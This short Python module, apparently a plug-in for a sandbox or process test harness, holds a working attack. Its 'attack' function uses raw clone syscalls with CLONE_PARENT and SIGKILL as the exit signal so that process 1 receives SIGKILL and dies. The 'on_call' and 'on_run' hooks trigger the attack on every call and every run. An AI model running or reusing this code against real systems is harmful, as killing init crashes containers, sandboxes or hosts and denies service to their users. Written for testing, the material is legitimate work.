"""clone lets a process choose the signal that its parent gets when it dies; process 1 becomes its parent."""

import ctypes
import os
import signal
import time

CLONE_PARENT = 0x8000
NUMBER = {"x86_64": 56, "aarch64": 220}[os.uname().machine]


def clone(flags):
    return ctypes.CDLL(None).syscall(NUMBER, ctypes.c_long(flags), None, None, None, None)


def attack():
    if os.fork() == 0:
        for _ in range(3):
            if clone(signal.SIGKILL) == 0:
                time.sleep(0.05)
                clone(CLONE_PARENT | signal.SIGKILL)
                os._exit(0)
        os._exit(0)
    os.wait()
    time.sleep(0.1)


def on_call(name, value, *args):
    attack()
    return value


def on_run(argv):
    attack()
